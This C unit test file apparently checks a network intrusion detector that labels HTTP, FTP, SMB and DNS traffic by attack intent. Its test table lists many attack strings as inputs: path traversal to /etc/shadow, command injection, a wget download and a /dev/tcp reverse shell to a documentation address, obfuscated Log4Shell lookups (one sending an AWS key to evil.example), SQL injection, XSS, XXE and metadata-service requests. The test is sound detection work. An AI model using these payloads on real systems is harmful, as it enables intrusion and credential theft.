/* SPDX-License-Identifier: Apache-2.0 */
#include "packet/intent.h"

#include "packet/lookup.h"
#include "packet/match.h"

#include "exchange_util.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>

#include <cmocka.h>

#define N(k) YG_INTENT_##k

/* clang-format off */
static const struct {
    const char *what;
    struct http_case http;
    uint8_t kind;       /* NONE: nothing at all is tried */
    const char *object; /* if not NULL */
    const char *host;
    uint16_t port;
} question[] = {
    { "a page", { .target = "/index.html?id=7&sort=name" }, N(NONE), 0, 0, 0 },
    { "words that look like SQL", { .target = "/s?q=union station and select hotels" }, N(NONE), 0, 0, 0 },
    { "a name with an apostrophe", { .target = "/s?q=o'neill" }, N(NONE), 0, 0, 0 },
    { "a browser's header", { .target = "/", .head = "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:1) Gecko\r\n" }, N(NONE), 0, 0, 0 },
    { "cookies with names of programs", { .target = "/", .head = "Cookie: a=b; id=5; ps=1; cat=2\r\n" }, N(NONE), 0, 0, 0 },
    { "a comparison in prose", { .target = "/s?q=cat & dog" }, N(NONE), 0, 0, 0 },
    { "own address as a parameter", { .target = "/login?next=http://www.example.org/a" }, N(NONE), 0, 0, 0 },
    { "traversal", { .target = "/cgi-bin/../../etc/passwd" }, N(FILE_READ), "../../etc/passwd", 0, 0 },
    { "traversal with backslashes", { .target = "/p?f=..\\..\\boot.ini" }, N(FILE_READ), "..\\..\\boot.ini", 0, 0 },
    { "known file, absolute", { .target = "/p?f=/etc/shadow" }, N(FILE_READ), "/etc/shadow", 0, 0 },
    { "doubled dots", { .target = "/p?f=....//....//etc/hosts" }, N(FILE_READ), "....//....//etc/hosts", 0, 0 },
    { "filter of PHP", { .target = "/p?f=php://filter/read=convert.base64-encode/resource=a.php" }, N(FILE_READ), 0, 0, 0 },
    { "traversal in a header", { .target = "/", .head = "X-File: ../../etc/passwd\r\n" }, N(FILE_READ), 0, 0, 0 },
    { "traversal in a form", { .verb = "POST", .target = "/f", .body = "a=1&f=../../etc/passwd" }, N(FILE_READ), 0, 0, 0 },
    { "traversal in JSON", { .verb = "POST", .target = "/f", .body = "{\"f\":\"../../etc/passwd\"}" }, N(FILE_READ), 0, 0, 0 },
    { "semicolon", { .target = "/p?h=1;id" }, N(COMMAND), "id", 0, 0 },
    { "pipe and path", { .target = "/p?h=1|/bin/cat /etc/hosts" }, N(COMMAND), "/bin/cat /etc/hosts", 0, 0 },
    { "quoted inside", { .target = "/p?h=1;w'h'o\\am\"i\"" }, N(COMMAND), 0, 0, 0 },
    { "carets inside", { .target = "/p?h=1&x=1|w^h^o^ami" }, N(COMMAND), 0, 0, 0 },
    { "IFS for a blank", { .target = "/p?h=;cat${IFS}/etc/passwd" }, N(COMMAND), 0, 0, 0 },
    { "substitution", { .target = "/p?h=$(uname -a)" }, N(COMMAND), "uname -a)", 0, 0 },
    { "backticks", { .target = "/p?h=`id`" }, N(COMMAND), "id", 0, 0 },
    { "wget names a host", { .target = "/p?h=;wget http://203.0.113.5:8080/x.sh" }, N(COMMAND), 0, "203.0.113.5", 8080 },
    { "reverse shell names a host", { .target = "/p?h=;bash -i >/dev/tcp/203.0.113.5/4444" }, N(COMMAND), 0, "203.0.113.5", 4444 },
    { "ping names a host", { .target = "/p?h=;ping -c 3 203.0.113.5" }, N(COMMAND), 0, "203.0.113.5", 0 },
    { "shellshock", { .target = "/cgi-bin/a", .head = "Referer: () { :; }; echo; /usr/bin/id\r\n" }, N(COMMAND), 0, 0, 0 },
    { "OGNL", { .target = "/a.action", .head = "Content-Type: %{(#_memberAccess=@a@b)}\r\n" }, N(COMMAND), 0, 0, 0 },
    { "code for PHP", { .target = "/i.php?x=system('id')" }, N(COMMAND), 0, 0, 0 },
    { "shell parameter", { .target = "/up/a.php?cmd=whoami" }, N(SHELL), "whoami", 0, 0 },
    { "shell parameter with an everyday word", { .target = "/up/a.php?cmd=dir" }, N(SHELL), "dir", 0, 0 },
    { "a value in JSON", { .verb = "POST", .target = "/f", .body = "{\"a\":[1,{\"cmd\":\"\\u0069d\"}],\"u\":\"http://203.0.113.5:81/x\"}" }, N(INCLUDE), 0, "203.0.113.5", 81 },
    { "a shell's parameter in JSON", { .verb = "POST", .target = "/f", .body = "{\"a\":1,\"cmd\":\"whoami\"}" }, N(SHELL), "whoami", 0, 0 },
    { "a value in a part", { .verb = "POST", .target = "/f", .body = "--b\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\nhttp://203.0.113.5:81/x\r\n--b--\r\n" }, N(INCLUDE), 0, "203.0.113.5", 81 },
    { "an encoded separator is part of a value", { .target = "/f?q=a%26b%3Dhttp://203.0.113.5/" }, N(NONE), 0, 0, 0 },
    { "union", { .target = "/i?id=1 union all select 1,2,3" }, N(SQL), 0, 0, 0 },
    { "union in comments", { .target = "/i?id=1/**/UnIoN/*x*/SeLeCt/**/1" }, N(SQL), 0, 0, 0 },
    { "always true", { .target = "/i?id=1' or '1'='1" }, N(SQL), 0, 0, 0 },
    { "stacked", { .target = "/i?id=1;drop table users" }, N(SQL), 0, 0, 0 },
    { "sleep", { .target = "/i?id=1 and sleep(5)" }, N(SQL), 0, 0, 0 },
    { "waitfor", { .target = "/i?id=1;waitfor delay '0:0:5'" }, N(SQL), 0, 0, 0 },
    { "error based", { .target = "/i?id=extractvalue(1,concat(0x7e,version()))" }, N(SQL), 0, 0, 0 },
    { "script", { .target = "/s?q=<script>alert(1)</script>" }, N(SCRIPT), "<script>alert(1)</script>", 0, 0 },
    { "handler", { .target = "/s?q=<img src=x onerror=alert(1)>" }, N(SCRIPT), 0, 0, 0 },
    { "handler out of an attribute", { .target = "/s?q=\" onfocus=alert(1) autofocus x=\"" }, N(SCRIPT), 0, 0, 0 },
    { "look-up", { .target = "/", .head = "User-Agent: ${jndi:ldap://203.0.113.9:1389/a}\r\n" }, N(LOOKUP), "ldap://203.0.113.9:1389/a", "203.0.113.9", 1389 },
    { "look-up with the scheme's port", { .target = "/?x=${jndi:rmi://evil.example/a}" }, N(LOOKUP), 0, "evil.example", 1099 },
    { "look-up in pieces", { .target = "/?x=${${::-j}${::-n}${::-d}${::-i}:${::-l}dap://203.0.113.9:99/a}" }, N(LOOKUP), "ldap://203.0.113.9:99/a", "203.0.113.9", 99 },
    { "look-up by case", { .target = "/?x=${${lower:J}N${upper:d}${lower:i}:ld${lower:AP}://203.0.113.9:99/a}" }, N(LOOKUP), "ldap://203.0.113.9:99/a", "203.0.113.9", 99 },
    { "look-up by the environment", { .target = "/?x=${${env:NOPE:-j}ndi${env:NOPE:-:}${env:NOPE:-l}dap${env:NOPE:-:}//203.0.113.9/a}" }, N(LOOKUP), 0, "203.0.113.9", 389 },
    { "look-up in the host header", { .target = "/", .head = "X: a\r\nHost: ${jndi:dns://evil.example/a}\r\n" }, N(LOOKUP), 0, "evil.example", 53 },
    { "secret as a part of the name", { .target = "/?x=${jndi:ldap://${env:AWS_KEY}.evil.example/a}" }, N(LOOKUP), 0, "*.evil.example", 389 },
    { "host behind a fragment", { .target = "/?x=${jndi:ldap://127.0.0.1#evil.example:1389/a}" }, N(LOOKUP), 0, "evil.example", 1389 },
    { "dotless i", { .target = "/?x=${jnd${upper:\xc4\xb1}:ldap://203.0.113.9/a}" }, N(LOOKUP), 0, "203.0.113.9", 389 },
    { "look-up never closed", { .target = "/?x=${jndi:ldap://203.0.113.9/a" }, N(LOOKUP), 0, "203.0.113.9", 389 },
    { "product in braces", { .target = "/h?n={{7*7}}" }, N(TEMPLATE), "49", 0, 0 },
    { "product in other braces", { .target = "/h?n=${191*7}" }, N(TEMPLATE), "1337", 0, 0 },
    { "product in tags", { .target = "/h?n=<%= 7 * 7 %>" }, N(TEMPLATE), "49", 0, 0 },
    { "URL as a file", { .target = "/p?f=http://203.0.113.5/x.txt" }, N(INCLUDE), 0, "203.0.113.5", 80 },
    { "address of the cloud's own service", { .target = "/p?u=http://169.254.169.254/latest/" }, N(INCLUDE), 0, "169.254.169.254", 80 },
    { "external entity", { .verb = "POST", .target = "/x", .body = "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>" }, N(ENTITY), 0, 0, 0 },
    { "object of Java", { .verb = "POST", .target = "/x", .body = "\xac\xed\x01\x05sr" }, N(OBJECT), 0, 0, 0 },
    { "upload", { .verb = "POST", .target = "/up", .body = "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.php\"\r\n\r\n<?php echo 1; ?>\r\n--b--" }, N(UPLOAD), 0, 0, 0 },
    { "repository", { .target = "/.git/config" }, N(LISTING), 0, 0, 0 },
    { "password in a form", { .verb = "POST", .target = "/login", .body = "user=a&password=b" }, N(LOGIN), 0, 0, 0 },
    { "credentials in a header", { .target = "/", .head = "Authorization: Basic YTpi\r\n" }, N(LOGIN), 0, 0, 0 },
    { "remote management", { .verb = "POST", .target = "/wsman" }, N(REMOTE_EXEC), 0, 0, 0 },
};
/* clang-format on */

static const struct yg_intent *find(const struct yg_intent *in, uint32_t n, unsigned kind)
{
    for (uint32_t i = 0; i < n; i++)
        if (in[i].kind == kind)
            return &in[i];
    return NULL;
}

static bool is(struct yg_str s, const char *want)
{
    return !want || yg_str_eq(s, yg_str_of(want));
}

static void what_a_question_tries(void **state)
{
    unsigned wrong = 0;

    (void)state;
    for (size_t i = 0; i < sizeof(question) / sizeof(question[0]); i++) {
        struct yg_intent in[YG_INTENTS_MAX];
        struct scene *s = scene_new();
        struct yg_talk *t = scene_talk(s, "198.51.100.7", "10.1.2.3", 80, 0);
        scene_http(s, t, &question[i].http, 0.1, 0.1);
        uint32_t n = yg_intents_of(t, NULL, &s->arena, in);
        const struct yg_intent *got = find(in, n, question[i].kind);
        bool right = question[i].kind == N(NONE)
                         ? n == 0
                         : got && is(got->object, question[i].object) &&
                               is(got->host, question[i].host) &&
                               (!question[i].host || got->port == question[i].port);
        if (!right) {
            wrong++;
            print_message("# wrong: %s\n", question[i].what);
            for (uint32_t k = 0; k < n; k++)
                print_message("#   %s object %.*s host %.*s:%u\n",
                              yg_intent_name(in[k].kind), YG_STR_ARG(in[k].object),
                              YG_STR_ARG(in[k].host), in[k].port);
        }
        scene_free(s);
    }
    assert_int_equal(wrong, 0);
}

static void what_other_protocols_try(void **state)
{
    static const struct {
        const char *what;
        uint8_t app;
        uint32_t flags;
        uint8_t kind;
    } other[] = {
        { "login by FTP", YG_APP_FTP, YG_XF_LOGIN, N(LOGIN) },
        { "service by DCERPC", YG_APP_DCERPC, YG_XF_EXEC, N(REMOTE_EXEC) },
        { "share of administrators", YG_APP_SMB, YG_XF_ADMIN, N(REMOTE_EXEC) },
        { "users listed", YG_APP_LDAP, YG_XF_LIST, N(LISTING) },
        { "nothing", YG_APP_SMB, 0, N(NONE) },
    };

    (void)state;
    for (size_t i = 0; i < sizeof(other) / sizeof(other[0]); i++) {
        struct yg_intent in[YG_INTENTS_MAX];
        struct scene *s = scene_new();
        struct yg_talk *t = scene_talk(s, "198.51.100.7", "10.1.2.3", 445, 0);
        struct yg_exchange *x = scene_ask(t, other[i].app, 0.1);
        x->flags = other[i].flags;
        x->target = YG_STR("some\\thing");
        uint32_t n = yg_intents_of(t, NULL, &s->arena, in);
        print_message("# %s\n", other[i].what);
        assert_int_equal(n, other[i].kind != N(NONE));
        if (n)
            assert_int_equal(in[0].kind, other[i].kind);
        scene_free(s);
    }
}

static void a_tunnel_of_names(void **state)
{
    static const char *const name[] = {
        "mzxw6ytboi4dsnrxgq3tkmzwha2tm.t.example.org",
        "nbswy3dpeb3w64tmmqqhi2dfojswc.t.example.org",
        "orugkidrovuwg2zamjzg653oebtg6.t.example.org",
        "pb2w24dtebxxmzlseb2gqzjanrqxu.t.example.org",
        "pfzcazdpm4xcaqtvoqqhi2dfeb2gk.t.example.org",
        "nzsxeidxn5zgwzlsebuxgidtmvrxe.t.example.org",
        "mv2caytvoqqhi2dfebuw4zdvon2he.t.example.org",
        "nfqwyidgnfwgkidjomqgw3tpo5xc4.t.example.org",
    };
    struct yg_intent in[YG_INTENTS_MAX];

    (void)state;
    for (uint32_t names = 7; names <= 8; names++) {
        struct scene *s = scene_new();
        struct yg_talk *t = scene_talk(s, "10.1.2.3", "10.1.2.1", 53, 0);
        for (uint32_t i = 0; i < names; i++)
            scene_ask(t, YG_APP_DNS, i)->target = yg_str_of(name[i]);
        assert_int_equal(yg_intents_of(t, NULL, &s->arena, in), names == 8);
        if (names == 8) {
            assert_int_equal(in[0].kind, N(TUNNEL));
            assert_true(is(in[0].object, "example.org"));
        }
        scene_free(s);
    }
}

static void patterns(void **state)
{
    static const struct {
        const char *pattern, *text;
        long at, end; /* -1: no match */
    } row[] = {
        { "a%db", "xxA12b", 2, 6 },
        { "a%db", "a12c", -1, 0 },
        { "%bid%b", "grid id", 5, 7 },
        { "%^x", "ax\nx", 3, 4 },
        { "a%$", "ab\na\n", 3, 4 },
        { "a%ac", "abbc", 0, 4 },
        { "a%ac", "ab\nc", -1, 0 },
        { "union%sselect", "UNION/**/select", 0, 15 },
        { "union%sselect", "unionselect", -1, 0 },
        { "union%oselect", "unionselect", 0, 11 },
        { "%cx%q", "'x\"", 0, 3 },
        { "100%%", "100%", 0, 4 },
        { "..%p..%p", "..\\//../", 0, 8 },
        { "%w@%n", "me@a.b-c", 0, 8 },
        { "%b%d%x%$", "a1 .7Ef", 4, 7 },
        { "%x", "G-z_F", 4, 5 },
        { "%n", "/\x80-.", 2, 4 },
        { "%w", "-.\x7f_Z9z", 3, 7 },
        { "%p%c", "a\\a/`", 3, 5 },
        { "%^a", "b\rA", 2, 3 },
        { "%s=", "x+=", 1, 3 },
        { "%oz", "a  z", 1, 4 },
        { "%.z", "zz", 0, 2 },
        { "", "x", 0, 0 },
    };

    (void)state;
    for (size_t i = 0; i < sizeof(row) / sizeof(row[0]); i++) {
        struct yg_match_rule rule = { .pattern = row[i].pattern };
        struct yg_hit hit = { .rule = NULL };
        struct yg_matcher m;
        size_t end = 0;
        struct yg_str s = yg_str_of(row[i].text);
        size_t at = yg_match_find(row[i].pattern, s, 0, &end);
        yg_matcher_init(&m, &rule, 1);
        bool any = yg_match_next(&m, s, &hit);
        print_message("# %s in %s\n", row[i].pattern, row[i].text);
        assert_int_equal((long)at, row[i].at);
        assert_int_equal(any, row[i].at >= 0);
        if (any) {
            assert_int_equal(end, row[i].end);
            assert_int_equal(hit.at, at);
            assert_int_equal(hit.end, end);
        }
    }
}

static void names_of_hosts(void **state)
{
    static const struct {
        const char *pattern, *name;
        bool same;
    } row[] = {
        { "evil.example", "EVIL.example.", true },
        { "evil.example", "notevil.example", false },
        { "*.evil.example", "secret.evil.example", true },
        { "*.evil.example", ".evil.example", false },
        { "*", "anything", false },
        { "", "", false },
    };

    (void)state;
    for (size_t i = 0; i < sizeof(row) / sizeof(row[0]); i++)
        assert_int_equal(yg_host_is(yg_str_of(row[i].pattern), yg_str_of(row[i].name)),
                         row[i].same);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(what_a_question_tries),
        cmocka_unit_test(what_other_protocols_try),
        cmocka_unit_test(a_tunnel_of_names),
        cmocka_unit_test(patterns),
        cmocka_unit_test(names_of_hosts),
    };

    cmocka_set_message_output(CM_OUTPUT_TAP);
    return cmocka_run_group_tests(tests, NULL, NULL);
}
